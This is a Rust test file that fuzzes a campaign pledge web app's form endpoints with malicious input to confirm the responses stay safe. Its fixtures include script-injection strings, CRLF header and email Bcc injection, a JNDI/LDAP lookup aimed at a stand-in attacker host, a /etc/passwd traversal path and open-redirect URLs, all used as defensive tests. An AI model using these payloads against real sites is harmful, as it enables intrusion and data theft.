//! Bad input: whatever is posted, the answer is a page that says what to do, in our own words, with all headers.

use bytes::Bytes;
use handbill_contract::Kind;
use http::{Method, Request, Response};
use proptest::prelude::*;

use super::fixture::{PLEDGE, World, header, pledge, text, world};

/// What must stand on every answer; rules, section 6.
const HEADERS: [(&str, &str); 7] = [
    ("content-security-policy", "default-src 'none'; "),
    ("strict-transport-security", "max-age="),
    ("x-content-type-options", "nosniff"),
    ("referrer-policy", "strict-origin-when-cross-origin"),
    ("permissions-policy", "camera=()"),
    ("cross-origin-opener-policy", "same-origin"),
    ("cache-control", ""),
];

const URLENCODED: &str = "application/x-www-form-urlencoded";

/// What nobody may see unescaped, be sent to, or find in a header.
const VALUES: [&str; 13] = [
    "<script>evil7()</script>",
    "\"><img src=evil7 onerror=evil7()>",
    "' onfocus='evil7()",
    "</textarea><script>evil7()</script>",
    "//evil7.example.org/",
    "https://evil7.example.org/",
    "javascript:evil7()",
    "a\r\nSet-Cookie: evil7=1\r\n\r\n<script>evil7()</script>",
    "a\nLocation: https://evil7.example.org/",
    "\0\u{1b}[31mevil7\u{202e}",
    "⟦form⟧⟦main⟧⟦evil7⟧",
    "${jndi:ldap://evil7.example.org}{{evil7}}",
    "evil7@example.org\r\nBcc: evil7@example.net",
];

async fn sent(world: &World, method: Method, path: &str, content_type: &[u8], body: Vec<u8>) -> Response<Bytes> {
    let request = Request::builder().method(method).uri(path).header("content-type", content_type);
    crate::answer(&world.app, request.body(Bytes::from(body)).expect("a request")).await
}

/// It is no failure of ours, bears all headers, leads nowhere else and says nothing that was typed but escaped.
fn is_safe(answer: &Response<Bytes>, case: &str) {
    let status = answer.status().as_u16();
    assert!(status < 500, "{case}: {status}");
    for (name, begins) in HEADERS {
        assert!(answer.headers().contains_key(name), "{case}: `{name}` is missing");
        assert!(header(answer, name).starts_with(begins), "{case}: `{name}`");
    }
    for (name, value) in answer.headers() {
        let value = value.to_str().unwrap_or_else(|_| panic!("{case}: `{name}` is no text"));
        assert!(!value.contains("evil7"), "{case}: {name}: {value}");
    }
    assert!(answer.headers().get("set-cookie").is_none(), "{case}: we keep no cookie");
    let location = header(answer, "location");
    assert!(location.is_empty() || (location.starts_with('/') && !location.starts_with("//")), "{case}: {location}");
    let body = text(answer);
    for raw in ["<script>evil7", "<img src=evil7", "href=\"//evil7", "href=\"https://evil7", "href=\"javascript:"] {
        assert!(!body.contains(raw), "{case}: `{raw}` came back: {body}");
    }
    assert!(status < 400 || !body.is_empty(), "{case}: a page says what to do");
}

#[tokio::test]
async fn an_evil_value_in_any_field_is_only_ever_text() {
    let world = world().await;
    let usual = pledge(&[]);
    let names = usual.iter().map(|(name, _)| *name).chain([
        "comments", "consent", "public_name", "declaration", "amount", "amount_other", "recurrence", "thanks", "next",
        "redirect", "step", "homepage", "url",
    ]);
    for name in names {
        for value in VALUES {
            for kind in Kind::ALL {
                let form = format!("campaigns/rent-controls:{kind}");
                let mut pairs = usual.clone();
                pairs.retain(|(other, _)| *other != name && *other != "form");
                if name != "form" {
                    pairs.push(("form", &form));
                }
                pairs.push((name, value));
                let answer = world.post(kind.action(), &pairs).await;
                is_safe(&answer, &format!("{kind}: {name}={value:?}"));
            }
            let answer = world.post("/api/pledge", &[("form", PLEDGE), (value, "x")]).await;
            is_safe(&answer, &format!("a field named {value:?}"));
            assert!(answer.status().is_client_error());
        }
    }
}

#[tokio::test]
async fn a_letter_has_no_header_of_a_visitors_making() {
    let world = world().await;
    for value in VALUES {
        world.post("/api/pledge", &pledge(&[("given_name", value), ("family_name", value)])).await;
    }
    for letter in world.mailbox.letters() {
        assert!(!letter.subject.contains(['\r', '\n']), "{}", letter.subject);
        assert!(!letter.to.as_str().contains(['\r', '\n']));
        assert!(!letter.html.contains("<script>evil7") && !letter.html.contains("<img src=evil7"), "{}", letter.html);
        assert!(!letter.text.contains("\nSet-Cookie"), "{}", letter.text);
    }
}

#[tokio::test]
async fn what_is_no_post_is_told_so() {
    let world = world().await;
    let utf16: Vec<u8> = "form=a&email_address=b".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let utf16_marked: Vec<u8> = [0xff, 0xfe].into_iter().chain(utf16.clone()).collect();
    let deep = |open: &str, n: usize| open.repeat(n).into_bytes();
    let whole = pledge(&[]);
    let encoded = |pairs: &[(&str, &str)]| {
        form_urlencoded::Serializer::new(String::new()).extend_pairs(pairs).finish().into_bytes()
    };
    let with = |more: &[(&'static str, &'static str)]| encoded(&[whole.clone(), more.to_vec()].concat());
    let nul = encoded(&pledge(&[("given_name", "A\0nn")]));
    let long = "x".repeat(5_000);
    let over_long = encoded(&pledge(&[("given_name", &long)]));
    let form_only = format!("form={PLEDGE}");
    let cases: Vec<(&str, &str, Vec<u8>, &[u16])> = vec![
        ("nothing", URLENCODED, Vec::new(), &[404]),
        ("no type", "", form_only.clone().into(), &[415]),
        ("plain text", "text/plain", form_only.clone().into(), &[415]),
        ("parts", "multipart/form-data; boundary=x", b"--x\r\n\r\n--x--".to_vec(), &[400, 415]),
        ("XML", "application/xml", b"<!DOCTYPE x [<!ENTITY a \"b\">]><x>&a;</x>".to_vec(), &[415]),
        ("the form alone", URLENCODED, form_only.clone().into(), &[422]),
        ("no form", URLENCODED, b"given_name=Ann".to_vec(), &[404]),
        ("a form twice", URLENCODED, with(&[("form", PLEDGE)]), &[303, 400, 422]),
        ("an address twice", URLENCODED, with(&[("email_address", "bob@example.org")]), &[422]),
        ("a name twice", URLENCODED, with(&[("given_name", "Bob")]), &[422]),
        ("over-long", URLENCODED, over_long, &[422]),
        ("an unknown field", URLENCODED, with(&[("is_admin", "1")]), &[400]),
        ("invalid UTF-8", URLENCODED, b"form=%FF%FE&given_name=\xff\xfe".to_vec(), &[400]),
        ("half a character", URLENCODED, format!("{form_only}&given_name=%C3").into(), &[400]),
        ("percent junk", URLENCODED, format!("{form_only}&%%%=%zz%2&given_name=%").into(), &[400, 422]),
        ("only signs", URLENCODED, b"&&==&=&%&+".to_vec(), &[404]),
        ("UTF-16", "application/x-www-form-urlencoded; charset=utf-16", utf16, &[400, 404]),
        ("UTF-16 with a mark", URLENCODED, utf16_marked, &[400]),
        ("NUL", URLENCODED, nul, &[422]),
        ("NULs alone", URLENCODED, vec![0; 9_000], &[400, 404]),
        ("10,000 pairs", URLENCODED, "a=&".repeat(10_000).into_bytes(), &[413]),
        ("5,000 pairs", URLENCODED, "a=&".repeat(5_000).into_bytes(), &[400]),
        ("1 MB", URLENCODED, vec![b'a'; 1 << 20], &[413]),
        ("10 MB", URLENCODED, vec![b'a'; 10 << 20], &[413]),
        ("10 MB of JSON", "application/json", deep("[", 10 << 20), &[413]),
        ("deep lists", "application/json", deep("[", 16_000), &[400]),
        ("deep objects", "application/json", deep("{\"a\":", 3_000), &[400]),
        ("a list", "application/json", b"[1,2]".to_vec(), &[400]),
        ("an object in an object", "application/json", br#"{"form":{"a":1}}"#.to_vec(), &[400]),
        ("numbers", "application/json", br#"{"form":1e999,"given_name":-0}"#.to_vec(), &[400, 404]),
        ("half a surrogate", "application/json", br#"{"form":"\ud800"}"#.to_vec(), &[400]),
        ("not JSON", "application/json", form_only.into(), &[400]),
        ("a type in capitals", "APPLICATION/X-WWW-FORM-URLENCODED", encoded(&whole), &[303]),
    ];
    for (case, content_type, body, statuses) in cases {
        let answer = sent(&world, Method::POST, "/api/pledge", content_type.as_bytes(), body).await;
        is_safe(&answer, case);
        let status = answer.status().as_u16();
        assert!(statuses.contains(&status), "{case}: {status}: {}", text(&answer));
        assert!(status == 303 || text(&answer).contains("<footer>Imprint</footer>"), "{case}: it is a page");
    }
}

#[tokio::test]
async fn paths_and_methods_that_are_none_are_told_so() {
    let world = world().await;
    let long = format!("/api/confirm/{}", "a".repeat(60_000));
    for (method, path) in [
        ("GET", "/api/confirm/%00"),
        ("POST", "/api/confirm/../../pledge"),
        ("POST", "/api/confirm/%3Cscript%3Eevil7()%3C/script%3E"),
        ("GET", "/api/unsubscribe/%3Cscript%3Eevil7()%3C/script%3E"),
        ("POST", "/api/unsubscribe/evil7"),
        ("GET", "/api/count/evil7.svg"),
        ("GET", "/api/count/%3Csvg%20onload=evil7()%3E.svg"),
        ("GET", "/api/count/.json"),
        ("GET", "/api/count/..%2f..%2fetc%2fpasswd.json"),
        ("GET", "//evil7.example.org/api/pledge"),
        ("GET", "/api//evil7.example.org"),
        ("GET", long.as_str()),
        ("OPTIONS", "/api/pledge"),
        ("PUT", "/api/pledge"),
        ("DELETE", "/api/count/x.json"),
        ("TRACE", "/api/pledge"),
        ("EVIL7", "/api/pledge"),
    ] {
        let answer = sent(&world, method.parse().expect("a method"), path, b"", Vec::new()).await;
        is_safe(&answer, &format!("{method} {path}"));
        assert!(answer.status().as_u16() != 303, "{method} {path}");
    }
}

#[tokio::test]
async fn a_page_of_another_site_may_not_post() {
    let world = world().await;
    for (name, value) in [
        ("origin", "https://evil7.example.org"),
        ("origin", "https://campaign.example.org.evil7.example.org"),
        ("origin", "https://evil7@campaign.example.org"),
        ("sec-fetch-site", "cross-site"),
    ] {
        let body = form_urlencoded::Serializer::new(String::new()).extend_pairs(pledge(&[])).finish();
        let request = Request::post("/api/pledge").header("content-type", URLENCODED).header(name, value);
        let answer = crate::answer(&world.app, request.body(Bytes::from(body)).expect("a request")).await;
        is_safe(&answer, value);
        assert_eq!(answer.status(), 403, "{value}");
    }
}

fn bodies() -> impl Strategy<Value = Vec<u8>> {
    let names = prop_oneof![
        Just("form".to_owned()),
        Just("given_name".to_owned()),
        Just("email_address".to_owned()),
        Just("language".to_owned()),
        Just("consent".to_owned()),
        Just("amount".to_owned()),
        ".{0,12}",
    ];
    let values = prop_oneof![
        proptest::sample::select(VALUES.as_slice()).prop_map(str::to_owned),
        Just(PLEDGE.to_owned()),
        Just("yes".to_owned()),
        Just("ann@example.org".to_owned()),
        any::<String>(),
    ];
    let pairs = proptest::collection::vec((names, values), 0..12);
    prop_oneof![
        proptest::collection::vec(any::<u8>(), 0..600),
        pairs.clone().prop_map(|pairs| {
            form_urlencoded::Serializer::new(String::new()).extend_pairs(pairs).finish().into_bytes()
        }),
        pairs.prop_map(|pairs| {
            let map: serde_json::Map<_, _> = pairs.into_iter().map(|(name, value)| (name, value.into())).collect();
            serde_json::Value::Object(map).to_string().into_bytes()
        }),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_request_gets_a_safe_answer(
        all in proptest::collection::vec((
            proptest::sample::select(["GET", "POST", "HEAD", "PUT"].as_slice()),
            proptest::sample::select([
                "/api/pledge", "/api/signup", "/api/donate", "/api/stripe", "/api/unsubscribe/x",
                "/api/confirm/0123456789abcdef0123456789abcdef", "/api/count/campaigns/rent-controls:pledge.json", "/",
            ].as_slice()),
            prop_oneof![
                Just(URLENCODED.as_bytes().to_vec()),
                Just(b"application/json".to_vec()),
                Just(b"multipart/form-data; boundary=x".to_vec()),
                proptest::collection::vec(prop_oneof![0x20_u8..0x7f, 0x80_u8..=0xff], 0..40),
            ],
            bodies(),
        ), 24),
    ) {
        // One world for many requests: to make one takes longer than to answer.
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
        runtime.block_on(async {
            let world = world().await;
            for (method, path, content_type, body) in all {
                let case = format!("{method} {path} {:?} {:?}", String::from_utf8_lossy(&content_type), String::from_utf8_lossy(&body));
                let answer = sent(&world, method.parse().expect("a method"), path, &content_type, body).await;
                is_safe(&answer, &case);
            }
        });
    }
}
